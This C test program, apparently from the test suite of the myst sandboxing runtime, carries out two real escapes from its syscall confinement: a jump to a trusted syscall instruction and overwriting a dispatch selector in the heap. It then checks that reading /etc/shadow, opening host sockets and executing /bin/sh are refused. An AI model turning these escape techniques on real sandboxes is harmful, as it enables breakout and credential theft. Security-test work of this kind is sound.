/* The two escapes of the hardening issue (item 4): a hostile program shares
 * myst's address space, so it can make host system calls past the kernel
 *  - "jump": run the `syscall` instruction of the always-allowed sigreturn
 *    range with its own registers (the ud2 after it comes back as SIGILL);
 *  - "selector": find its thread's EntryState in myst's heap (a record of
 *    {kernel FS, the program's FS, 1}) and set the dispatch selector to ALLOW.
 * Either way it then tries what confinement must stop: read a host file
 * outside the grants and /etc/shadow, make an AF_UNIX socket, run /bin/sh.
 *
 * Usage (under myst only; tests/tools/exec_confinement.sh runs it):
 *   confinement_escape confined|unconfined <granted file> <outside file> <marker>
 * The program prints "ready", then reads from stdin "<trampoline> <heap start>
 * <heap end> <myst's host pid>" (hex, hex, hex, decimal). A real attacker finds
 * these by scanning memory; the test reads them from /proc/<pid>/maps and the
 * symbol table for speed and determinism. The escapes themselves are real.
 * "unconfined" (myst --no-confine) proves it: there the outside file is read
 * and the final execve runs `sh -c 'echo escaped >marker'`. */
#include <fcntl.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <ucontext.h>
#include <unistd.h>

#include "verdict.h"

static uintptr_t syscall_instruction; /* in myst's always-allowed range */
static sigjmp_buf jump_back;
static volatile long jump_result;
static volatile uint8_t* selector;

/* The ud2 after the trampoline's syscall: the host call has been made and
 * its result is in RAX. */
static void on_sigill(int signal, siginfo_t* info, void* context) {
    (void)signal;
    (void)info;
    ucontext_t* uc = context;
    if ((uintptr_t)uc->uc_mcontext.gregs[REG_RIP] != syscall_instruction + 2)
        _exit(98);
    jump_result = uc->uc_mcontext.gregs[REG_RAX];
    siglongjmp(jump_back, 1);
}

static long jump_syscall(long number, long a, long b, long c) {
    if (sigsetjmp(jump_back, 1) == 0) {
        register long rax __asm__("rax") = number;
        register long rdi __asm__("rdi") = a;
        register long rsi __asm__("rsi") = b;
        register long rdx __asm__("rdx") = c;
        register long r10 __asm__("r10") = 0;
        __asm__ volatile("jmp *%[to]"
                         :
                         : "r"(rax), "r"(rdi), "r"(rsi), "r"(rdx),
                           "r"(r10), [to] "r"(syscall_instruction)
                         : "rcx", "r11", "memory");
        __builtin_unreachable();
    }
    return jump_result;
}

static long raw_syscall(long number, long a, long b, long c) {
    long result;
    register long r10 __asm__("r10") = 0;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return result;
}

static long selector_syscall(long number, long a, long b, long c) {
    *selector = 0; /* ALLOW: the host runs the next syscall itself */
    long result = raw_syscall(number, a, b, c);
    *selector = 1;
    return result;
}

/* The EntryState of this thread (entry/entry.h): kernel FS, program FS,
 * selector 1, an FS switch of 0 or 1, interrupted 0, five zero bytes, then
 * the kernel's thread and two handlers. Each candidate is tried: only the
 * real selector turns getpid into the host's. */
static int find_selector(uintptr_t start, uintptr_t end, long host_pid) {
    uintptr_t fs;
    __asm__("mov %%fs:0, %0" : "=r"(fs));
    for (uintptr_t at = (start + 7) & ~(uintptr_t)7; at + 64 <= end; at += 8) {
        const uint64_t* q = (const uint64_t*)at;
        const uint8_t* b = (const uint8_t*)at;
        if (q[1] != fs || q[0] == 0 || b[16] != 1 || b[17] > 1 || b[18] != 0 || q[3] == 0 ||
            q[6] == 0 || q[7] == 0 || b[19] || b[20] || b[21] || b[22] || b[23])
            continue;
        selector = (volatile uint8_t*)(at + 16);
        if (selector_syscall(SYS_getpid, 0, 0, 0) == host_pid)
            return 1;
    }
    selector = NULL;
    return 0;
}

typedef long (*EscapeCall)(long, long, long, long);

static char shell_command[4200]; /* echo escaped >marker */

static void try_escape(const char* how, EscapeCall call, int confined, long host_pid,
                       const char* granted, const char* outside) {
    CHECK(call(SYS_getpid, 0, 0, 0) == host_pid, "%s: the escape reaches the host (its getpid)",
          how);
    long fd = call(SYS_openat, AT_FDCWD, (long)granted, O_RDONLY);
    CHECK(fd >= 0, "%s: a granted host file opens (%ld)", how, fd);
    if (fd >= 0)
        call(SYS_close, fd, 0, 0);

    fd = call(SYS_openat, AT_FDCWD, (long)outside, O_RDONLY);
    if (confined) {
        CHECK(fd == -EACCES, "%s: a host file outside the grants is EACCES (%ld)", how, fd);
        long shadow = call(SYS_openat, AT_FDCWD, (long)"/etc/shadow", O_RDONLY);
        CHECK(shadow == -EACCES, "%s: /etc/shadow is EACCES (%ld)", how, shadow);
        long unix_socket = call(SYS_socket, AF_UNIX, SOCK_STREAM, 0);
        CHECK(unix_socket == -EPERM, "%s: a host AF_UNIX socket is EPERM (%ld)", how, unix_socket);
        char* const sh_argv[] = {"sh", "-c", shell_command, NULL};
        fflush(stdout); /* what was found so far, should the shell run */
        long exec = call(SYS_execve, (long)"/bin/sh", (long)sh_argv, 0);
        CHECK(exec == -EPERM || exec == -EACCES, "%s: execve of /bin/sh is refused (%ld)", how,
              exec);
    } else {
        char text[64] = {0};
        long got = fd >= 0 ? call(SYS_read, fd, (long)text, sizeof text - 1) : fd;
        CHECK(got > 0 && strcmp(text, "host secret\n") == 0,
              "%s: unconfined, the outside host file is read (%ld)", how, got);
        if (fd >= 0)
            call(SYS_close, fd, 0, 0);
    }
}

int main(int argc, char** argv) {
    if (argc != 5) {
        fprintf(stderr, "usage: %s confined|unconfined <granted> <outside> <marker>\n", argv[0]);
        return 2;
    }
    int confined = strcmp(argv[1], "confined") == 0;
    snprintf(shell_command, sizeof shell_command, "echo escaped >'%s'", argv[4]);
    puts("ready");
    fflush(stdout);
    unsigned long trampoline = 0, heap_start = 0, heap_end = 0;
    long host_pid = 0;
    if (scanf("%lx %lx %lx %ld", &trampoline, &heap_start, &heap_end, &host_pid) != 4) {
        puts("FAIL: no addresses on stdin");
        return 1;
    }
    /* mov $15, %eax; syscall; ud2 (entry/entry.S) */
    static const uint8_t expected[] = {0xb8, 0x0f, 0, 0, 0, 0x0f, 0x05, 0x0f, 0x0b};
    CHECK(memcmp((const void*)trampoline, expected, sizeof expected) == 0,
          "the sigreturn trampoline is where the symbol table says");
    syscall_instruction = trampoline + 5;

    struct sigaction action = {0};
    action.sa_sigaction = on_sigill;
    action.sa_flags = SA_SIGINFO | SA_NODEFER;
    sigaction(SIGILL, &action, NULL);

    try_escape("jump", jump_syscall, confined, host_pid, argv[2], argv[3]);
    int found = find_selector(heap_start, heap_end, host_pid);
    CHECK(found, "selector: this thread's dispatch selector is found in myst's heap");
    if (found)
        try_escape("selector", selector_syscall, confined, host_pid, argv[2], argv[3]);

    if (!confined) {
        /* Last: unconfined, this replaces myst with a host shell. */
        char* const sh_argv[] = {"sh", "-c", shell_command, NULL};
        fflush(stdout);
        long exec = jump_syscall(SYS_execve, (long)"/bin/sh", (long)sh_argv, 0);
        CHECK(0, "unconfined, execve of /bin/sh returned (%ld)", exec);
    }
    return verdict_failures ? 1 : 0;
}
